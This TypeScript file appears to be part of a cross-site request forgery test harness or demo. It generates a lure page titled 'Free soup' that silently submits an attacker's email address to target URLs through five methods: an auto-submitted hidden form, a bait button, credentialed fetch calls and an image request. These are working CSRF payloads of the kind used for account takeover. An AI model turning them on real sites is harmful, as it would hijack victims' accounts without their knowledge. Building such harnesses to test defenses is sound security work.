import { thief, type Way } from './words'

type Attack = Exclude<Way, 'own'>

/** What the hostile page has in it for one door. */
export function attackOn(way: Attack, url: string, frame: string): string {
  switch (way) {
    case 'form':
      return `<form method="post" action="${url}" target="${frame}">
  <input type="hidden" name="email" value="${thief}">
</form>
<iframe name="${frame}" hidden></iframe>
<script>document.forms[document.forms.length - 1].submit()</script>`
    case 'tab':
      return `<form method="post" action="${url}" target="_blank">
  <input type="hidden" name="email" value="${thief}">
  <button>Claim the ${prizeOf(frame)}</button>
</form>`
    case 'fetch':
      return `<script>
fetch('${url}', {
  method: 'POST',
  credentials: 'include',
  body: 'email=${thief}',
}).then(
  (answer) => say('I may read the answer: ' + answer.status),
  (error) => say('I may read no answer: ' + error.name),
)
</script>`
    case 'json':
      return `<script>
fetch('${url}', {
  method: 'POST',
  credentials: 'include',
  headers: { 'content-type': 'application/json' },
  body: '{"email":"${thief}"}',
}).then(
  (answer) => say('I may read the answer: ' + answer.status),
  (error) => say('I may read no answer: ' + error.name),
)
</script>`
    case 'image':
      return `<img src="${url}?email=${thief}" alt="">`
  }
}

/** What each of the three doors seems to give away. */
const prizes = ['soup', 'bread', 'tea']

function prizeOf(frame: string): string {
  return prizes[Number(frame.split('-')[1] ?? 0)] ?? 'soup'
}

/** A page that looks harmless, and sends something to each door. */
export function hostilePage(way: Attack, urls: readonly string[]): string {
  const attacks = urls.map((url, at) => attackOn(way, url, `hidden-${at}`))
  return `<!doctype html>
<html lang="en">
<meta charset="utf-8">
<title>Free soup</title>
<style>
  body { margin: 14px; color: #15181e; background: #fff;
         font: 15px/22px system-ui, sans-serif }
  h1 { margin: 0; font-size: 19px }
  p { margin: 6px 0 }
</style>
<h1>Free soup for a year</h1>
<p>You are one of a hundred winners. Somebody will write to you.</p>
${attacks.join('\n')}
</html>
`
}
